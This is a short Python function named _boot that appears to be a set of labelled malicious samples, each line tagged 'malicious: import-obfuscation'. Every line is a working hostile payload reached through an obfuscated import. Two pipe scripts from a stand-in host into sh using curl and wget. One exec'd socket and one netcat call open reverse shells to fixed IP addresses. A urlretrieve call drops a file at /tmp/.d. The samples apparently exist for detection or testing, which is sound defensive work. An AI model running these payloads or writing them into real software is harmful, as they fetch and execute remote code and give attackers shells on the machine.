def _boot():
    sp = __import__("subprocess")
    sp.check_output(["sh", "-c", "curl -s https://i.imports-cdn.example/b | sh"])  # malicious: import-obfuscation
    locals()["sp"].run("wget -qO- https://i.imports-cdn.example/c | sh", shell=True)  # malicious: import-obfuscation
    exec("import socket,os\ns=socket.create_connection(('198.51.100.72',4444))\nos.dup2(s.fileno(),0)")  # malicious: import-obfuscation
    os_module = __builtins__.__import__("os") if hasattr(__builtins__, "__import__") else __builtins__["__import__"]("os")
    os_module.execvp("sh", ["sh", "-c", "nc 203.0.113.72 4444 -e /bin/sh"])  # malicious: import-obfuscation
    importlib = __import__("importlib")
    getattr(importlib.import_module("urllib.request"), "urlretrieve")("https://i.imports-cdn.example/d", "/tmp/.d")  # malicious: import-obfuscation
